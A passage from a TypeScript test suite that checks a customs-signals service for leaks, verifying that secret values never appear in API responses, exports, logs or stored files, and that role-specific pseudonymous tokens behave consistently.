    const auditor = await new Visitor(site).become('demo.auditor')
    const police = await new Visitor(site).become('demo.police')
    const answers: string[] = []
    const read = async (visitor: Visitor, path: string): Promise<void> => {
      const { status, body } = await visitor.ask('GET', path)
      assert.equal(status, 200, path)
      answers.push(typeof body === 'string' ? body : JSON.stringify(body))
    }
    for (const { id } of results) {
      await read(customs, `/signals/${id}`)
      // Law enforcement may see the commercial part, and in it tokens too.
      const { body } = await police.ask('GET', `/signals/${id}`, undefined, { 'x-purpose': 'law_enforcement' })
      answers.push(JSON.stringify(body))
    }
    await read(customs, '/signals?limit=200')
    await read(customs, '/situation')
    await read(customs, '/imports')
    await read(customs, `/imports/${run.id}`)
    await read(customs, `/imports/${run.id}/rejects?limit=200`)
    await read(customs, `/imports/${run.id}/rejects.csv`)
    await read(auditor, '/ledger/entries?limit=200')
    answers.push(site.said())
    const whole = answers.join('\n')
    for (const secret of SECRETS) {
      assert.ok(
        !whole.includes(secret),
        `${secret} stands in ${answers.find((text) => text.includes(secret))?.slice(0, 300)}`,
      )
      assert.deepEqual(await found(secret), [])
    }
    assert.match(whole, /P-[A-Za-z0-9_-]{22}/)
    // Nothing in the data folder but the database, which holds it sealed, and nothing of the upload.
    const inClear = filesBelow(site.dataDir).filter((path) => {
      const bytes = readFileSync(path)
      return SECRETS.some((secret) => bytes.includes(secret))
    })
    assert.deepEqual(inClear, [])
  })

  test('the same code is the same token for one role, another for another role', async () => {
    const [one, two] = await post([
      item('TOK-1', {}, { importer: 'X1', seller: 'X1' }),
      item('TOK-2', {}, { importer: 'X1' }),
    ])
    type Whole = { fields: { key: string; value: string | null }[]; subjects: unknown }
    const wholes = await Promise.all(
      [one, two].map(async (result) => (await customs.ask('GET', `/signals/${result!.id}`)).body as Whole),
    )
    const token = (whole: Whole, key: string) => whole.fields.find((field) => field.key === key)!.value
    assert.equal(token(wholes[0]!, 'importer'), token(wholes[1]!, 'importer'))
    assert.notEqual(token(wholes[0]!, 'importer'), token(wholes[0]!, 'seller'))
    // No history of whoever it may be: parties are never among the subjects.
    for (const whole of wholes) assert.doesNotMatch(JSON.stringify(whole.subjects), /P-/)
  })

  test('a number of a declaration that looks like a person’s is taken and flagged', async () => {
    const [result] = await post([item(SECRETS[0]!)])
    assert.equal(result!.status, 'accepted')
    const { body } = await customs.ask('GET', `/signals/${result!.id}`)
    assert.deepEqual((body as Row).flags, ['person_pattern'])
  })
})

/** Every file of the site, the database's own included: what lies there in clear. */
const filesBelow = (folder: string): string[] =>
  readdirSync(folder, { withFileTypes: true }).flatMap((entry) => {
    const path = join(folder, entry.name)
    if (entry.isDirectory()) return filesBelow(path)
    return entry.isFile() && statSync(path).size < 64 * 1024 * 1024 ? [path] : []
  })
